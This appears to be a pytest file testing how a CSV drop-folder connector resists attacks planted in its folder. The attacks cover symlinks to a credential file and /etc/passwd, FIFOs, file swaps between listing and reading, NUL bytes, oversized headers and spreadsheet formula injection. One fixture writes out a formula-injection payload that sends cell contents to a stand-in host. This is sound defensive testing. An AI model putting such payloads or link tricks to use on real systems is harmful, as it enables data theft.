"""A drop folder written by someone else: links, FIFOs, directories, NUL bytes, runaway headers.

Each test plants what an attacker (or an unlucky ERP) would and checks that nothing outside the
folder is read, nothing blocks, and only a bounded, masked excerpt of any message is kept.
"""

from __future__ import annotations

import csv
import os
import socket
import stat
import threading
from pathlib import Path

import pytest

from connector.logs import register_secret
from connector.sources import CsvFolderSource, SourceBatch, WriteBack
from connector.sources.receipts import neutralise
from connector.sources.safe_files import UnsafeEntry, open_regular, scan, write_text_nofollow
from connector.sources.specs import CsvSourceSpec

SECRET = "tok-7f3c9a1e5b2d4c6e8a0f1b3d5e7a9c2e"


def make(tmp_path: Path, **spec: object) -> CsvFolderSource:
    (tmp_path / "inbox").mkdir(exist_ok=True)
    options: dict[str, object] = {"stable_seconds": 0, **spec}
    return CsvFolderSource(CsvSourceSpec(type="csv", folder="inbox", key=["id"], **options),  # type: ignore[arg-type]
                           base_dir=tmp_path, mapping_name="m", clock=lambda: 1000.0)


def drain(source: CsvFolderSource) -> list[SourceBatch]:
    batches = []
    for batch in source.read(None):
        batches.append(batch)
        source.acknowledge(batch)
    return batches


def problems(batches: list[SourceBatch]) -> dict[str, str]:
    return {p.unit or "": p.reason for b in batches for p in b.problems}


def all_regular_bytes(root: Path) -> bytes:
    """Every regular file under root (links are not followed: they are not content we wrote)."""
    return b"".join(p.read_bytes() for p in root.rglob("*") if p.is_file() and not p.is_symlink())


@pytest.fixture
def credential(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("creds") / "td-token"
    path.write_text(f"id\n{SECRET}\n", encoding="utf-8")  # would even parse as a one-row CSV
    return path


def test_link_to_the_credential_file_is_moved_aside_unread(tmp_path: Path, credential: Path) -> None:
    source = make(tmp_path)
    inbox = tmp_path / "inbox"
    (inbox / "leak.csv").symlink_to(credential)
    (inbox / "passwd.csv").symlink_to("/etc/passwd")
    (inbox / "dangling.csv").symlink_to(tmp_path / "nowhere")
    (inbox / "good.csv").write_text("id\n1\n", encoding="utf-8")

    batches = drain(source)

    assert [r.key for b in batches for r in b.records] == ["1"]
    refused = problems(batches)
    assert set(refused) == {"leak.csv", "passwd.csv", "dangling.csv"}
    assert all("symbolic link" in reason for reason in refused.values())
    rejected = tmp_path / "inbox" / "rejected"
    for name in refused:
        assert (rejected / name).is_symlink()  # the link itself moved, its target untouched
        text = (rejected / f"{name}.error.txt").read_text(encoding="utf-8")
        assert "symbolic link" in text
        assert "regular files" in text
        assert str(credential) not in text  # not even where it points
    assert credential.read_text(encoding="utf-8") == f"id\n{SECRET}\n"
    assert not list(inbox.glob("*.csv"))
    source.write_back([WriteBack(f"!inbox/{u}", u, None, None, "rejected", None, r, "t")
                       for u, r in refused.items()])
    assert SECRET.encode() not in all_regular_bytes(tmp_path)
    assert b"root:" not in all_regular_bytes(tmp_path)


def test_fifo_and_socket_are_refused_without_blocking_and_folders_left_alone(tmp_path: Path) -> None:
    source = make(tmp_path, pattern="*")  # "*" matches processed/ and rejected/ too: never moved
    inbox = tmp_path / "inbox"
    os.mkfifo(inbox / "pipe.csv")
    (inbox / "folder.csv").mkdir()
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(inbox / "sock.csv"))
    done = threading.Event()
    result: list[list[SourceBatch]] = []

    def run() -> None:
        result.append(drain(source))
        done.set()

    threading.Thread(target=run, daemon=True).start()
    assert done.wait(5), "reading the drop folder blocked on a FIFO"
    sock.close()
    refused = problems(result[0])
    assert set(refused) == {"pipe.csv", "sock.csv"}
    assert "FIFO" in refused["pipe.csv"]
    assert "socket" in refused["sock.csv"]
    assert stat.S_ISFIFO(os.lstat(inbox / "rejected" / "pipe.csv").st_mode)
    assert (inbox / "folder.csv").is_dir()  # a folder is not a drop: left where it is
    assert drain(source) == []  # and rejected/ is not moved into itself on the next pass


def test_swap_after_listing_is_caught_at_open(tmp_path: Path, credential: Path) -> None:
    """open_regular checks what it opened, not what was listed: a link or FIFO swapped in is refused."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "a.csv").write_text("id\n1\n", encoding="utf-8")
    files, refused = scan(inbox, "*.csv")
    assert [f.name for f in files] == ["a.csv"]
    assert refused == []
    (inbox / "a.csv").unlink()
    (inbox / "a.csv").symlink_to(credential)
    with pytest.raises(UnsafeEntry, match="symbolic link"):
        open_regular(inbox / "a.csv")
    (inbox / "a.csv").unlink()
    os.mkfifo(inbox / "a.csv")
    with pytest.raises(UnsafeEntry, match="FIFO"):
        open_regular(inbox / "a.csv")  # O_NONBLOCK: returns at once instead of waiting for a writer
    with pytest.raises(UnsafeEntry):
        open_regular(inbox / "..")


def test_swap_between_listing_and_reading_rejects_the_file_unread(
    tmp_path: Path, credential: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = make(tmp_path)
    inbox = tmp_path / "inbox"
    (inbox / "a.csv").write_text("id\n1\n", encoding="utf-8")
    listed = source._scan()

    def swapped() -> list[tuple[Path, object]]:
        (inbox / "a.csv").unlink()
        (inbox / "a.csv").symlink_to(credential)
        return listed

    monkeypatch.setattr(source, "_scan", swapped)
    batches = drain(source)
    assert [r.key for b in batches for r in b.records] == []
    assert "symbolic link" in problems(batches)["a.csv"]
    assert (inbox / "rejected" / "a.csv").is_symlink()
    assert SECRET.encode() not in all_regular_bytes(tmp_path)


def test_error_file_is_not_written_through_a_planted_link(tmp_path: Path, credential: Path) -> None:
    target = tmp_path / "victim.txt"
    target.write_text("keep me", encoding="utf-8")
    (tmp_path / "x.csv.error.txt").symlink_to(target)
    with pytest.raises(UnsafeEntry):
        write_text_nofollow(tmp_path / "x.csv.error.txt", "overwritten")
    assert target.read_text(encoding="utf-8") == "keep me"


def test_a_subfolder_swapped_for_a_link_is_not_written_into(tmp_path: Path) -> None:
    source = make(tmp_path)
    elsewhere = tmp_path / "state"
    elsewhere.mkdir()
    (tmp_path / "inbox" / "rejected").symlink_to(elsewhere)  # "rejected/" now points at the state dir
    (tmp_path / "inbox" / "receipts").symlink_to(elsewhere)
    (tmp_path / "inbox" / "bad.csv").write_text("", encoding="utf-8")  # empty: to be rejected
    with pytest.raises(OSError, match="symbolic link or leaves the drop folder"):
        drain(source)
    with pytest.raises(Exception, match="symbolic link or leaves the drop folder"):
        source.write_back([WriteBack("1", "e.csv", None, None, "pending", None, None, "t")])
    assert list(elsewhere.iterdir()) == []
    outside = make(tmp_path, rejected_folder=str(elsewhere))  # an absolute path is the operator's
    assert outside._sub(str(elsewhere)) == elsewhere


def test_receipt_link_planted_in_receipts_is_not_merged(tmp_path: Path, credential: Path) -> None:
    source = make(tmp_path)
    receipts = tmp_path / "inbox" / "receipts"
    receipts.mkdir()
    (receipts / "e.csv.receipt.csv").symlink_to(credential)
    source.write_back([WriteBack("1", "e.csv", None, None, "pending", None, None, "t")])
    receipt = receipts / "e.csv.receipt.csv"
    assert not receipt.is_symlink()  # replaced by a fresh receipt; the link was never read
    assert receipt.read_text(encoding="utf-8-sig").splitlines()[1].startswith("1;")
    assert credential.read_text(encoding="utf-8") == f"id\n{SECRET}\n"
    assert SECRET.encode() not in all_regular_bytes(tmp_path)


def test_nul_byte_far_into_the_file_rejects_it(tmp_path: Path) -> None:
    source = make(tmp_path)
    rows = "".join(f"{i};valeur {i}\n" for i in range(2000))  # ~30 KB, well past the first 8 KB
    (tmp_path / "inbox" / "e.csv").write_bytes(b"id;x\n" + rows.encode() + b"9999;a\x00b\n")
    batches = drain(source)
    assert [r.key for b in batches for r in b.records] == []
    reason = problems(batches)["e.csv"]
    assert "NUL byte on line 2002" in reason
    assert (tmp_path / "inbox" / "rejected" / "e.csv").exists()


@pytest.mark.slow  # ~10 s: parsing a 700,000-column header is the csv module's work, not ours
def test_runaway_header_is_echoed_only_as_a_bounded_excerpt(tmp_path: Path) -> None:
    source = make(tmp_path)
    register_secret(SECRET)
    header = ";".join(f"colonne_{i}" for i in range(700_000)) + f";{SECRET}"  # ~8.9 MB, key missing
    assert len(header) > 8_000_000
    (tmp_path / "inbox" / "e.csv").write_text(header + "\n1;2\n", encoding="utf-8")
    batches = drain(source)
    reason = problems(batches)["e.csv"]
    assert len(reason) < 2200
    assert "excerpt: first 2,000 of" in reason
    error_file = (tmp_path / "inbox" / "rejected" / "e.csv.error.txt").read_text(encoding="utf-8")
    assert len(error_file) < 2500
    assert "excerpt" in error_file
    source.write_back([WriteBack("!inbox/e.csv", "e.csv", None, None, "rejected", None, header, "t")])
    receipt = (tmp_path / "inbox" / "receipts" / "e.csv.receipt.csv").read_text(encoding="utf-8-sig")
    assert len(receipt) < 2500
    assert SECRET not in receipt + error_file + reason


def test_receipt_cells_cannot_start_a_formula_and_read_back_unchanged(tmp_path: Path) -> None:
    source = make(tmp_path)
    hostile = ['=HYPERLINK("http://x.example/?"&A1,"clic")', "+33 1 23", "-2+3", "@SUM(A1)", "\tTAB",
               "\rCR", "'quoted"]
    plain = ["-12.5", "-12,5", "+7", "BE-001"]
    source.write_back([WriteBack(k, "e.csv", None, None, "rejected", None, k, "t") for k in hostile + plain])
    path = tmp_path / "inbox" / "receipts" / "e.csv.receipt.csv"
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh, delimiter=";"))
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell == "+7"
            assert not cell.startswith("-") or cell in ("-12.5", "-12,5")
    assert rows[0]["key"] == "'" + hostile[0]
    assert [r["key"] for r in rows[len(hostile):]] == plain
    # Read back and merged: the keys are the ERP's keys again, nothing is doubled.
    source.write_back([WriteBack(hostile[0], "e.csv", "clx1", "BSD-1", "SEALED", "SEALED", None, "t2")])
    with path.open(encoding="utf-8-sig", newline="") as fh:
        again = list(csv.DictReader(fh, delimiter=";"))
    assert len(again) == len(rows)
    assert again[0]["key"] == "'" + hostile[0]
    assert again[0]["status"] == "SEALED"
    assert again[6]["key"] == "''quoted"
    assert neutralise("-12.5") == "-12.5"
    assert neutralise("-1e5") == "'-1e5"


@pytest.mark.parametrize(("setting", "expected"), [(None, 0o640), ("0600", 0o600), ("644", 0o644)])
def test_receipt_mode_is_configurable(tmp_path: Path, setting: str | None, expected: int) -> None:
    source = make(tmp_path, **({} if setting is None else {"receipt_mode": setting}))
    old = os.umask(0o077)  # the systemd unit's umask must not hide receipts from the group
    try:
        source.write_back([WriteBack("1", "e.csv", None, None, "pending", None, None, "t")])
    finally:
        os.umask(old)
    path = tmp_path / "inbox" / "receipts" / "e.csv.receipt.csv"
    assert stat.S_IMODE(path.stat().st_mode) == expected


def test_a_busy_shared_folder_with_planted_entries_among_real_exports(
    tmp_path: Path, credential: Path
) -> None:
    """Customer shape: 300 exports, 40 links and 10 FIFOs dropped among them by other users."""
    source = make(tmp_path)
    inbox = tmp_path / "inbox"
    for i in range(300):
        (inbox / f"export_{i:03}.csv").write_text(f"id;x\n{i}-a;1\n{i}-b;2\n", encoding="utf-8")
    for i in range(40):
        (inbox / f"z_link_{i:02}.csv").symlink_to(credential if i % 2 else Path("/etc/passwd"))
    for i in range(10):
        os.mkfifo(inbox / f"z_fifo_{i}.csv")
    register_secret(SECRET)
    batches = drain(source)
    keys = [r.key for b in batches for r in b.records]
    assert len(keys) == 600
    assert len(set(keys)) == 600
    refused = problems(batches)
    assert len(refused) == 50
    processed = sorted(p.name for p in (inbox / "processed").iterdir())
    assert processed == [f"export_{i:03}.csv" for i in range(300)]
    assert len([p for p in (inbox / "rejected").iterdir() if p.name.endswith(".error.txt")]) == 50
    assert list(inbox.glob("*.csv")) == []
    assert SECRET.encode() not in all_regular_bytes(tmp_path)
    assert b"root:" not in all_regular_bytes(tmp_path)


def test_the_note_of_a_redropped_file_is_not_written_through_a_planted_link(tmp_path: Path) -> None:
    source = make(tmp_path)
    inbox = tmp_path / "inbox"
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    (inbox / "e.csv").write_text("id;x\n1;a\n", encoding="utf-8")
    checkpoint = None
    for batch in source.read(None):
        source.acknowledge(batch)
        checkpoint = batch.checkpoint
    (inbox / "processed" / "e.csv").unlink()  # the redrop is moved under its own name...
    (inbox / "processed" / "e.csv.note.txt").symlink_to(victim)  # ... next to a planted link
    (inbox / "e.csv").write_text("id;x\n1;a\n", encoding="utf-8")  # identical: set aside with a note
    (batch,) = list(source.read(checkpoint))
    with pytest.raises(UnsafeEntry):
        source.acknowledge(batch)
    assert victim.read_text(encoding="utf-8") == "keep me"


def test_check_fails_on_a_processed_folder_that_is_a_link(tmp_path: Path) -> None:
    source = make(tmp_path)
    elsewhere = tmp_path / "state"
    elsewhere.mkdir()
    (tmp_path / "inbox" / "processed").symlink_to(elsewhere)
    result = source.check()
    fails = [f.message for f in result.findings if f.level == "fail"]
    assert any("processed folder" in m and "symbolic link" in m for m in fails), fails
